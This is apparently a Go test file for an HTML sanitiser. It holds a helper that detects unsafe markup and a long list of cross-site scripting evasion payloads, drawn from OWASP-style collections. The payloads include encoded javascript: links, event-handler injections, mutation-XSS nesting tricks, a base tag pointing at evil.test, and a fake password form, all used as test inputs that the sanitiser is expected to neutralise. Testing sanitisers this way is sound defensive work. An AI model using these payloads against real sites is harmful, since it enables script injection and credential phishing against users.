package content

import (
	"fmt"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// unsafe lists what in HTML could run, load, or reach out of its place. It
// reads the output with the parser browsers share, not with ours.
func unsafe(out string) []string {
	var bad []string
	z := html.NewTokenizer(strings.NewReader(out))
	var open []string
	for {
		kind := z.Next()
		if kind == html.ErrorToken {
			if len(open) > 0 {
				bad = append(bad, fmt.Sprintf("left open: %v", open))
			}
			return bad
		}
		tok := z.Token()
		switch kind {
		case html.CommentToken, html.DoctypeToken:
			bad = append(bad, "comment or doctype")
		case html.StartTagToken, html.SelfClosingTagToken:
			if !allowed(tok.Data) {
				bad = append(bad, "element "+tok.Data)
			}
			for _, a := range tok.Attr {
				if p := unsafeAttr(tok.Data, a); p != "" {
					bad = append(bad, p)
				}
			}
			if tok.Data != "br" && tok.Data != "img" && tok.Data != "hr" {
				open = append(open, tok.Data)
			}
		case html.EndTagToken:
			if len(open) == 0 || open[len(open)-1] != tok.Data {
				return append(bad, "closes what is not open: "+tok.Data)
			}
			open = open[:len(open)-1]
		}
	}
}

func unsafeAttr(tag string, a html.Attribute) string {
	switch a.Key {
	case "href", "src":
		if !strings.HasPrefix(a.Val, "https://") && !strings.HasPrefix(a.Val, "http://") && (a.Key == "src" || !strings.HasPrefix(a.Val, "mailto:")) {
			return a.Key + " " + a.Val
		}
		if strings.ContainsAny(a.Val, " \t\r\n\"<>") {
			return a.Key + " with white space or markup"
		}
	case "class":
		for c := range strings.FieldsSeq(a.Val) {
			if classes(tag, c) == "" {
				return "class " + c
			}
		}
	case "alt", "lang", "dir", "rel", "data-host", "loading", "start", "reversed", "colspan", "rowspan":
	default:
		return "attribute " + a.Key
	}
	return ""
}

// evasions are ways to smuggle script or markup past a filter, after the
// collections of OWASP and others. want, where given, must be in the output:
// words people wrote are not lost.
func evasions() []struct{ in, want string } {
	return []struct{ in, want string }{
		{`<script>alert(1)</script>hello`, "hello"},
		{`<SCRIPT SRC=https://evil.test/x.js></SCRIPT>`, ""},
		{`<scr<script>ipt>alert(1)</scr</script>ipt>`, ""},
		{`<script/x>alert(1)</script>`, ""},
		{"<script\n>alert(1)</script\n>", ""},
		{`<<script>alert(1);//<</script>`, ""},
		{`<script>alert(1)`, ""},
		{`<img src=x onerror=alert(1)>`, ""},
		{`<img src="https://a.test/x.png" onerror="alert(1)" alt="a well">`, "a well"},
		{`<img/src="x"/onerror=alert(1)>`, ""},
		{`<img """><script>alert(1)</script>">`, ""},
		{`<img src=javascript:alert(1)>`, ""},
		{`<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">`, ""},
		{`<img src="data:image/svg+xml;base64,PHN2Zy8+">`, ""},
		{`<img srcset="x, javascript:alert(1) 2x">`, ""},
		{`<a href="javascript:alert(1)">click</a>`, "click"},
		{`<a href="JaVaScRiPt:alert(1)">click</a>`, "click"},
		{`<a href="java&#10;script:alert(1)">click</a>`, "click"},
		{`<a href="java&Tab;script:alert(1)">click</a>`, "click"},
		{`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>`, "click"},
		{`<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)">click</a>`, "click"},
		{`<a href=" javascript:alert(1)">click</a>`, "click"},
		{"<a href=\"\x01javascript:alert(1)\">click</a>", "click"},
		{"<a href=\"java\x00script:alert(1)\">click</a>", "click"},
		{`<a href="javascript&colon;alert(1)">click</a>`, "click"},
		{`<a href="vbscript:msgbox(1)">click</a>`, "click"},
		{`<a href="data:text/html,<script>alert(1)</script>">click</a>`, "click"},
		{`<a href="data:text/html;base64,PHNjcmlwdD4=">click</a>`, "click"},
		{`<a href="feed:javascript:alert(1)">click</a>`, "click"},
		{`<a href="view-source:javascript:alert(1)">click</a>`, "click"},
		{`<a href="blob:https://a.test/1">click</a>`, "click"},
		{`<a href="//evil.test/x">click</a>`, "click"},
		{`<a href="/settings/delete">click</a>`, "click"},
		{`<a href="#main">click</a>`, "click"},
		{`<a href="https:evil.test">click</a>`, "click"},
		{`<a href="https://a.test" onmouseover="alert(1)">click</a>`, "click"},
		{`<a href="https://a.test" style="position:fixed;inset:0">click</a>`, "click"},
		{`<a href="https://a.test" target="_top" id="x" name="y">click</a>`, "click"},
		{`<a href="https://a.test" class="btn btn-danger mention evil">click</a>`, "click"},
		{`<a href='https://a.test/"onmouseover="alert(1)'>click</a>`, "click"},
		{"<a href=`javascript:alert(1)`>click</a>", "click"},
		{`<a href="https://a.test/"onclick="alert(1)">click</a>`, "click"},
		{`<a data-host="bank.test" href="https://evil.test">click</a>`, "click"},
		{`<svg onload=alert(1)>`, ""},
		{`<svg><script>alert(1)</script></svg>`, ""},
		{`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, ""},
		{`<svg><style><img src=x onerror=alert(1)></style></svg>`, ""},
		{`<math><mi//xlink:href="data:x,<script>alert(1)</script>">`, ""},
		{`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, ""},
		{`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, ""},
		{`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, ""},
		{`<iframe src="javascript:alert(1)"></iframe>after`, "after"},
		{`<iframe srcdoc="<script>alert(1)</script>"></iframe>`, ""},
		{`<object data="javascript:alert(1)"></object>`, ""},
		{`<embed src="javascript:alert(1)">`, ""},
		{`<base href="https://evil.test/">`, ""},
		{`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, ""},
		{`<link rel=stylesheet href="https://evil.test/x.css">`, ""},
		{`<style>@import "https://evil.test/x.css";</style>text`, "text"},
		{`<style><!--</style><script>alert(1)</script>-->`, ""},
		{`<div style="background:url(javascript:alert(1))">words</div>`, "words"},
		{`<p style="x:expression(alert(1))">words</p>`, "words"},
		{`<p onclick=alert(1) id=main data-x=1 role=alert aria-label=x tabindex=0>words</p>`, "words"},
		{`<body onload=alert(1)>words`, "words"},
		{`<input onfocus=alert(1) autofocus>`, ""},
		{`<select onfocus=alert(1) autofocus><option>x</select>`, ""},
		{`<textarea autofocus onfocus=alert(1)>words</textarea>`, ""},
		{`<button formaction="javascript:alert(1)">words</button>`, "words"},
		{`<form action="https://evil.test/"><input name=password type=password></form>`, ""},
		{`<video src=x onerror=alert(1)><source onerror=alert(1)></video>`, ""},
		{`<audio src=x onerror=alert(1)>`, ""},
		{`<details open ontoggle=alert(1)><summary>more</summary>words</details>`, "words"},
		{`<marquee onstart=alert(1)>words</marquee>`, "words"},
		{`<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">words</table>`, "words"},
		{`<!--<img src="--><img src=x onerror=alert(1)//">`, ""},
		{`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`, ""},
		{`<![CDATA[<script>alert(1)</script>]]>`, ""},
		{`<?xml version="1.0"?><script>alert(1)</script>`, ""},
		{`<xmp><script>alert(1)</script></xmp>`, ""},
		{`<plaintext><script>alert(1)</script>`, ""},
		{`<template><script>alert(1)</script></template>`, ""},
		{`<title><script>alert(1)</script></title>`, ""},
		{`<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>`, ""},
		{`<isindex type=image src=1 onerror=alert(1)>`, ""},
		{`<keygen autofocus onfocus=alert(1)>`, ""},
		{`<x onclick=alert(1)>words</x>`, "words"},
		{`<custom-element onclick=alert(1)>words</custom-element>`, "words"},
		{`<p/onclick=alert(1)>words`, "words"},
		{`<p "onclick=alert(1)>words`, ""},
		{"<img src\x0c=x\x0conerror\x0c=alert(1)>", ""},
		{`<ＳＣＲＩＰＴ>alert(1)</ＳＣＲＩＰＴ>`, "alert(1)"},
		{`＜script＞alert(1)＜/script＞`, "＜script＞"},
		{`&lt;script&gt;alert(1)&lt;/script&gt;`, "&lt;script&gt;"},
		{`<b>bold</b></div></div></main><h1>Signed out</h1>`, "Signed out"},
		{`</li></ul></td></tr></table>words`, "words"},
		{`<ul><li>one<li>two</ul></ul></li>three`, "three"},
		{`<blockquote><blockquote><p>deep`, "deep"},
		{`<table><a href="https://a.test">x</a><tr><td>cell`, "cell"},
		{`<table><tr><td><table><tr></table></table>words`, "words"},
		{`<a href="https://a.test"><a href="https://b.test">nested</a></a>`, "nested"},
		{`<p><table><p></table><td></p>words`, "words"},
		{`<h1><h2><h3>words`, "words"},
		{`<span class="invisible evil" onclick="x">hidden</span>`, "hidden"},
		{"\xff\xfe<script>alert(1)</script>", ""},
		{"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "+ADw-"},
	}
}

func TestT36_evasion(t *testing.T) {
	t.Parallel()
	for _, c := range evasions() {
		for name, clean := range map[string]func(string) string{"Sanitise": Sanitise, "SanitiseLocal": SanitiseLocal, "Markdown": Markdown} {
			out := clean(c.in)
			if bad := unsafe(out); len(bad) > 0 {
				t.Errorf("%s(%q) = %q: %v", name, c.in, out, bad)
			}
			if name == "Sanitise" && !strings.Contains(out, c.want) {
				t.Errorf("%s(%q) = %q: lost %q", name, c.in, out, c.want)
			}
			if again := Sanitise(Sanitise(c.in)); again != Sanitise(c.in) {
				t.Errorf("Sanitise(%q) changes when repeated:\n%s\n%s", c.in, Sanitise(c.in), again)
			}
		}
	}
	if n := len(evasions()); n < 60 {
		t.Errorf("%d inputs", n)
	}
}

// TestT36_everyForm: the plainer forms are as safe as the rich one.
func TestT36_everyForm(t *testing.T) {
	t.Parallel()
	for _, c := range evasions() {
		clean := Sanitise(c.in)
		_, rest := Title(c.in)
		for name, out := range map[string]string{
			"Reduce":         Reduce(clean),
			"Reduce of raw":  Reduce(c.in),
			"rest of Title":  rest,
			"LinkMentions":   LinkMentions(c.in, map[string]MentionTarget{"a": {URL: "javascript:alert(1)"}}),
			"WithTitle":      WithTitle(c.in, clean),
			"WithVia":        WithVia(clean, "javascript:alert(1)", c.in),
			"StripQuotedVia": StripQuotedVia(clean, "https://g.test/"),
		} {
			if bad := unsafe(out); len(bad) > 0 {
				t.Errorf("%s of %q = %q: %v", name, c.in, out, bad)
			}
		}
	}
}

func TestUnsafe_seesFaults(t *testing.T) {
	t.Parallel()
	for _, s := range []string{
		`<script></script>`, `<p onclick="x"></p>`, `<a href="javascript:x">x</a>`, `<a href="/x">x</a>`, `<p>`, `</p>`, `<b><i></b></i>`,
		`<!-- x -->`, `<span class="evil">x</span>`, `<img src="data:x">`, `<p style="x"></p>`,
	} {
		if len(unsafe(s)) == 0 {
			t.Errorf("%s passes", s)
		}
	}
}
